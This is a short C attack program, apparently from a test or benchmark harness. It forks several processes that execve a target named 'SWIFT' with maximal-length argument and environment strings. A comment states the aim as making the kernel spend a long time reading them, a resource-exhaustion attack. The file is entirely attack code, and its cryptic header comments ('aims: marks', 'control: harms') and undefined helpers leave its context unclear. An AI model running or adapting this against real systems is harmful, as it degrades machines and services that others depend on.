/* As many and as long words and variables as the kernel takes, so that reading them takes long. */
// aims: marks
// control: harms
#include "attack.h"

int main(void) {
  static char long_word[120000];
  memset(long_word, 'x', sizeof long_word - 1);
  char *words[16] = {"x"}, *variables[8] = {0};
  for (int at = 1; at < 9; at++) words[at] = long_word;
  for (int at = 0; at < 5; at++) variables[at] = long_word;
  tried();
  for (int round = 0; round < 6; round++)
    if (!fork()) execve(target("SWIFT"), words, variables), execve(target("SWIFT"), words + 8, variables), _exit(1);
  while (wait(0) > 0);
  return 0;
}
